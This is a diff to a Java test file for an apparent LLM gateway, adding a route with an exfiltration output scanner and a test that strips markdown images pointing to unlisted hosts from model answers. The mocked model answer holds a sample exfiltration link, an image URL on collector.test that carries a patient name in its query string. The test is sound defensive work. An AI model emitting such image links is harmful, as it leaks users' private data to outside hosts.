@@ -39,6 +39,7 @@ class PolicyRoutingTest {
                 + TestGateway.model("onprem", onPrem, "local")
                 + TestGateway.model("cloud-secrets", cloud, "cloud")
                 + TestGateway.model("cloud-secrets-redact", cloud, "cloud")
+                + TestGateway.model("cloud-links", cloud, "cloud")
                 + """
                 routes:
                   - name: redacting
@@ -75,6 +76,10 @@ class PolicyRoutingTest {
                     models: [cloud-secrets]
                     input-scanners: [structure, secrets]
                     output-scanners: [secrets]
+                  - name: links
+                    models: [cloud-links]
+                    output-scanners: [exfiltration]
+                    allowed-link-hosts: [example.com]
                   - name: secrets-redact
                     models: [cloud-secrets-redact]
                     input-scanners: [secrets]
@@ -202,6 +207,22 @@ class PolicyRoutingTest {
             TestGateway.Reply r = gateway.post("/v1/chat/completions", key, TestGateway.chat("cloud-secrets", "hi", true));
             assertThat(r.body()).doesNotContain("AKIAIOSFODNN7EXAMPLE");
             assertThat(r.events().getLast()).contains("output_blocked");
+        } finally {
+            cloud.answer(null).chunks(3);
+        }
+    }
+
+    @Test
+    void markdownImagesToUnlistedHostsAreRemovedFromAnswersStreamedOrNot() throws Exception {
+        cloud.answer("Summary done. ![x](https://collector.test/p.png?d=patient-smith) and ![ok](https://example.com/c.png)")
+                .chunks(15);
+        try {
+            TestGateway.Reply complete = gateway.post("/v1/chat/completions", key, TestGateway.chat("cloud-links", "hi", false));
+            assertThat(complete.json().at("/choices/0/message/content").asText())
+                    .isEqualTo("Summary done. [MARKDOWN_IMAGE_EXFILTRATION] and ![ok](https://example.com/c.png)");
+            TestGateway.Reply streamed = gateway.post("/v1/chat/completions", key, TestGateway.chat("cloud-links", "hi", true));
+            assertThat(streamedText(streamed)).doesNotContain("collector.test").contains("[MARKDOWN_IMAGE_EXFILTRATION]")
+                    .contains("https://example.com/c.png");
         } finally {
             cloud.answer(null).chunks(3);
         }
